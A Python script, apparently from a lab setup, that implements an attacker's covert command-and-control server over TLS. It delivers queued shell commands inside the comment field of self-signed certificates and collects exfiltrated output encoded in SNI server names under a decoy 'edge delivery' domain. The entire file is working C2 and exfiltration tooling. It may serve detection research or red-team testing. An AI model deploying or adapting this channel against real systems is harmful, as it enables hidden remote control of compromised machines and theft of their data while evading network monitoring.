#!/usr/bin/env python3
"""The attacker's TLS "edge" (runs as labremote): every handshake's server
name is read in the SNI callback. A poll (w07.<domain>) gets, when a task is
queued (<queue>/<n>.cmd), a fresh self-signed certificate whose nsComment is
base64("<n>:<command>"), else the plain edge certificate. Answers come back as
server names <base32 chunk>.<i>.<n>.a.<domain>, closed by <n>.e.<domain>;
the decoded answer lands in <out>/<n>.ans. Stops after --lifetime seconds."""
import argparse, base64, os, socket, ssl, subprocess, sys, tempfile, threading, time

p = argparse.ArgumentParser()
p.add_argument("--port", type=int, default=8443)
p.add_argument("--domain", default="img-edge.net")
p.add_argument("--queue", required=True)
p.add_argument("--out", required=True)
p.add_argument("--log", required=True)
p.add_argument("--lifetime", type=int, default=900)
a = p.parse_args()
tmp = tempfile.mkdtemp(prefix="edge-")
logf = open(a.log, "a", buffering=1)


def log(msg):
    logf.write("%s %s\n" % (time.strftime("%H:%M:%S", time.gmtime()), msg))


def make_ctx(tag, comment=None):
    key, crt = os.path.join(tmp, tag + ".key"), os.path.join(tmp, tag + ".crt")
    cmd = ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
           "-subj", "/CN=*.%s/O=Edge Delivery Network" % a.domain, "-days", "90", "-keyout", key, "-out", crt,
           "-addext", "subjectAltName=DNS:*.%s,DNS:%s" % (a.domain, a.domain)]
    if comment is not None:
        cmd += ["-addext", "nsComment=" + comment]
    subprocess.run(cmd, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    c.load_cert_chain(crt, key)
    return c


base = make_ctx("edge")
nxt = [1]
chunks = {}


def on_sni(sock, name, ctx):
    if not name or not name.endswith("." + a.domain):
        return None
    labels = name[: -len(a.domain) - 1].split(".")
    if len(labels) == 1:  # poll
        f = os.path.join(a.queue, "%d.cmd" % nxt[0])
        if os.path.exists(f):
            cmd = open(f).read()
            n = nxt[0]
            nxt[0] += 1
            sock.context = make_ctx("t%d" % n, base64.b64encode(("%d:%s" % (n, cmd)).encode()).decode())
            log("poll %s -> task %d (%d bytes)" % (labels[0], n, len(cmd)))
        else:
            log("poll %s" % labels[0])
    elif len(labels) == 4 and labels[3] == "a":
        chunks.setdefault(labels[2], {})[int(labels[1])] = labels[0]
    elif len(labels) == 2 and labels[1] == "e":
        parts = chunks.pop(labels[0], {})
        s = "".join(parts[i] for i in sorted(parts)).upper()
        s += "=" * (-len(s) % 8)
        try:
            data = base64.b32decode(s)
        except Exception as e:  # noqa
            data = ("(undecodable: %s)" % e).encode()
        with open(os.path.join(a.out, labels[0] + ".tmp"), "wb") as fh:
            fh.write(data)
        os.rename(os.path.join(a.out, labels[0] + ".tmp"), os.path.join(a.out, labels[0] + ".ans"))
        log("answer %s: %d chunks, %d bytes" % (labels[0], len(parts), len(data)))
    return None


base.sni_callback = on_sni
ls = socket.socket()
ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
ls.bind(("127.0.0.1", a.port))
ls.listen(32)
ls.settimeout(1.0)
end = time.time() + a.lifetime
log("edge listening on 127.0.0.1:%d" % a.port)
while time.time() < end:
    try:
        c, _ = ls.accept()
    except socket.timeout:
        continue
    c.settimeout(5)
    try:
        t = base.wrap_socket(c, server_side=True)
        t.close()
    except Exception as e:  # noqa
        c.close()
log("edge stops")
